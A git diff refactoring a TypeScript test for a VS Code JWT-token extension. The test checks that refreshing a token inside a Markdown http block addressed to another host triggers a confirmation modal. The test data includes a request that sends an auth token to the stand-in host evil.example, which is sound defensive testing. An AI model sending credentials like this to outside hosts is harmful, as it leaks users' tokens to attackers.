@@ -6,6 +6,7 @@ import type { JwtApp } from "../../../src/domain/apps/jwtApp";
 import { httpYac, restClient, type StandIn } from "../../host/standIns";
 import { activated, forgetAll, hs256App, isSignedWith, newSecret, saved, signedToken, until } from "../../host/support";
 import { assertDeclinesFirst, asking } from "./neighbour";
+import { shownText } from "../../host/newText";
 
 const OWN = "https://platform.kore.ai";
 const now = (): number => Math.floor(Date.now() / 1000);
@@ -297,11 +298,7 @@ describe("A fresh token", () => {
   });
 
   it("in Markdown is asked about, since clients send what stands there", async () => {
-    const document = await vscode.workspace.openTextDocument({
-      language: "markdown",
-      content: `~~~http\nGET https://evil.example/x\nauth: ${await expired()}\n~~~\n`,
-    });
-    const editor = await vscode.window.showTextDocument(document);
+    const editor = await shownText(`~~~http\nGET https://evil.example/x\nauth: ${await expired()}\n~~~\n`, "markdown");
     editor.selection = new vscode.Selection(2, 10, 2, 10);
     const { asked, modals } = await asking(() => vscode.commands.executeCommand("jwtApps.refreshToken"));
     assert.deepEqual(asked, ["modal"]);
